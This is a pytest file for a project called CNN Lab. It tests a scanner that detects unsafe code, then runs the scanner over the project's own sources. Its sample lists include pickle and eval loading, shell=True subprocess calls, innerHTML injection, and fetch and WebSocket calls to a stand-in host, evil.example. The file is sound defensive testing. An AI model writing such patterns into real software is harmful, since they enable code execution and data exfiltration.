"""No source of CNN Lab unpickles, evaluates, or shows as markup what somebody sent. The scan itself is tested first."""

from __future__ import annotations

from pathlib import Path

import pytest

from pages.ui import plot, report
from tests.hostile import scan

PROJECT = Path(__file__).resolve().parents[2]
PYTHON = sorted([*PROJECT.glob("core/**/*.py"), *PROJECT.glob("pages/**/*.py"), PROJECT / "app.py"])
WEB = sorted(path for kind in ("js", "css", "svg", "html") for path in PROJECT.glob(f"pages/**/*.{kind}"))
NAMESPACE = "http://www.w3.org/2000/svg"  # a name, not an address that anybody asks

PLANTED = [
    "import pickle",
    "import pickle as p",
    "from pickle import loads",
    "import os, marshal",
    "import shelve",
    "from dill import load",
    "import joblib.numpy_pickle",
    "import cloudpickle",
    "from importlib import import_module\nimport_module('pickle')",
    "import importlib\nimportlib.import_module('marshal').loads(b'')",
    "__import__('pickle')",
    "def f(x):\n    return eval(x)",
    "exec('1')",
    "compile('1', 'a', 'eval')",
    "import subprocess\nsubprocess.run('ls', shell=True)",
    "import subprocess\nsubprocess.run('ls', shell=yes)",
    "import os\nos.system('ls')",
    "from os import system",
    "import os\nos.popen('ls')",
    "st.markdown(x, unsafe_allow_html=True)",
    "st.html(x)",
    "import torch\ntorch.load(x, weights_only=True)",
    "from torch import load",
    "np.load(x, allow_pickle=True)",
    "JS = '''box.innerHTML = data'''",
]
HARMLESS = [
    "import re\nre.compile('a')",
    "model.eval()",
    "torch.compile(model)",
    "np.load(x, allow_pickle=False)",
    "st.markdown(x, unsafe_allow_html=False)",
    "'''pickle is never used, nor eval'''",
    "from safetensors import safe_open",
    "import subprocess\nsubprocess.run(['ls'], shell=False)",
]
PLANTED_WEB = [
    "box.innerHTML = data.name",
    "box.insertAdjacentHTML('beforeend', name)",
    "document.write(name)",
    "eval(data.code)",
    "new Function(data.code)()",
    "fetch('https://evil.example/' + ink)",
    "new WebSocket('wss://evil.example')",
    "import('//evil.example/a.js')",
    "@import 'a.css';",
    ".ink { background: url(//evil.example/a.png) }",
    "<img src='//evil.example/a.png'>",
    "<iframe srcdoc='x'>",
]


@pytest.mark.parametrize("source", PLANTED)
def test_the_scan_finds_what_was_planted(source):
    assert list(scan.in_python("x = 1\n" + source + "\n"))


@pytest.mark.parametrize("source", HARMLESS)
def test_the_scan_leaves_alone_what_does_no_harm(source):
    assert not list(scan.in_python(source))


@pytest.mark.parametrize("source", PLANTED_WEB)
def test_the_scan_finds_what_was_planted_in_scripts_and_styles(source):
    assert list(scan.in_web("const a = 1 // fine\n" + source + "\n"))


@pytest.mark.parametrize("path", PYTHON, ids=lambda path: str(path.relative_to(PROJECT)))
def test_python_sources_run_and_show_nothing_that_somebody_sent(path):
    assert not list(scan.in_python(path.read_text(encoding="utf-8")))


@pytest.mark.parametrize("path", WEB, ids=lambda path: str(path.relative_to(PROJECT)))
def test_scripts_and_styles_make_no_markup_and_ask_nobody(path):
    assert not list(scan.in_web(path.read_text(encoding="utf-8").replace(NAMESPACE, "")))


@pytest.mark.parametrize("script", [plot.DRAW, report.DRAW, report.STYLE])
def test_scripts_inside_of_python_do_neither(script):
    assert not list(scan.in_web(script))


def test_there_is_something_to_scan():
    names = {path.name for path in (*PYTHON, *WEB)}
    assert {"app.py", "loading.py", "checkpoints.py", "compare.py", "canvas.py", "canvas.js", "canvas.css"} <= names
